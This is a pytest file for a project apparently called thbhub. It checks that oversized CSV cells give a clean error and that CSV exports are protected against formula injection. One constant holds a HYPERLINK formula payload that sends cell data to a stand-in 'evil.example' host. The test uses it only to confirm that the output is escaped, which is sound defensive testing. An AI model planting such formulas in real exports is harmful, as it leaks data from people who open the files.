"""Issue 13, section 4: the hub's CSV input and output in one place (thbhub.csvio).

A cell past Python's csv limit (131,072 characters) was "unexpected Error: field larger than
field limit ... (a bug)" in the CLI and a 500 on the web: now one line naming the file, row,
column and rule, exit 1, nothing stored; a 4xx on the API.  And every CSV the hub writes is
formula-safe: the CLI's ``--format csv`` printed a token name or an agreement's purpose
``=HYPERLINK(...)`` raw, for a spreadsheet program to run."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from typer.testing import CliRunner

from access_support import bearer, build_world
from case_support import htcds_rows, write_csv
from thbhub.access import agreements, auth, users
from thbhub.cli import app
from thbhub.settings import Settings
from thbhub.storage import Database
from thbhub.storage.schema import metadata
from thbhub.web.app import create_app

runner = CliRunner()
BIG = 20_000_000  # under the 25 MB upload limit
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _one_line(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1, err[:2000]
    assert lines[0].startswith("error: ") and "a bug" not in err and "Traceback" not in err
    return lines[0]


def _big_htcds(path: Path) -> Path:
    rows = htcds_rows()
    header = list(rows[0])
    column = header[1]
    rows[0][column] = "x" * BIG
    return write_csv(path, header, rows)


def _records(db: Database) -> int:
    with db.connect() as conn:
        table = metadata.tables["case_records"]
        return int(conn.execute(select(func.count()).select_from(table)).scalar_one())


def test_a_huge_cell_is_one_line_naming_file_row_column_and_rule(
    db_url: str, db: Database, tmp_path: Path, cli_env: Path
) -> None:
    users.add_organisation(db, users.operator(), "Police PL", "PL")
    path = _big_htcds(tmp_path / "big.csv")
    column = next(csv.reader(io.StringIO(path.read_text()[:2000])))[1]
    result = runner.invoke(
        app, ["--db", db_url, "import", "cases", str(path), "--org", "Police PL"]
    )
    assert result.exit_code == 1
    line = _one_line(result.stderr)
    assert line == (
        f"error: big.csv, row 2, column {column!r}: a cell of {BIG:,} characters; at most "
        "131,072 characters per cell"
    )
    assert _records(db) == 0
    # A statistics table the same (this one crashed as "a bug").
    table = tmp_path / "glotip.csv"
    table.write_text("a,b,c\n1," + "y" * BIG + ",3\n", encoding="utf-8")
    result = runner.invoke(app, ["--db", db_url, "import", "glotip", str(table)])
    assert result.exit_code == 1
    assert _one_line(result.stderr) == (
        f"error: glotip.csv, row 2, column 'b': a cell of {BIG:,} characters; at most "
        "131,072 characters per cell"
    )


def test_a_huge_cell_uploaded_is_a_4xx(settings: Settings, db: Database, tmp_path: Path) -> None:
    world = build_world(settings, db)
    path = _big_htcds(tmp_path / "big.csv")
    client = TestClient(create_app(settings, db))
    with path.open("rb") as fh:
        response = client.post(
            "/api/v1/cases/import",
            headers=bearer(world, "contributor"),
            files={"file": ("big.csv", fh, "text/csv")},
        )
    assert 400 <= response.status_code < 500, response.text[:500]
    assert "131,072 characters per cell" in response.json()["error"]["message"]
    assert _records(db) == 0


@pytest.mark.parametrize("what", ["tokens", "agreements"])
def test_cli_csv_output_is_formula_safe(
    db_url: str, db: Database, cli_env: Path, what: str
) -> None:
    op = users.operator()
    users.add_organisation(db, op, "Police PL", "PL")
    users.add_organisation(db, op, "Border EE", "EE")
    users.add_user(db, op, "a@police.pl", "Police PL", "contributor", "long enough password")
    if what == "tokens":
        auth.create_token(db, op, "a@police.pl", name=FORMULA)
    else:
        owner = users.operator(users.Role.contributor, users.list_organisations(db)[1]["id"])
        agreements.grant(db, owner, "Border EE", date.today() + timedelta(days=9), FORMULA)
    result = runner.invoke(app, ["--db", db_url, what, "list", "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_every_csv_the_hub_writes_goes_through_one_writer() -> None:
    """No module but thbhub.csvio makes a csv writer: one place keeps them formula-safe."""
    src = Path(__file__).resolve().parents[2] / "src" / "thbhub"
    makers = re.compile(r"csv\.(writer|DictWriter)\(|\.write_csv\(")
    found = [
        f"{path.relative_to(src)}:{number}"
        for path in src.rglob("*.py")
        if path.name != "csvio.py"
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if makers.search(line) and "COPY" not in line and "copy.write" not in line
    ]
    assert not found, found
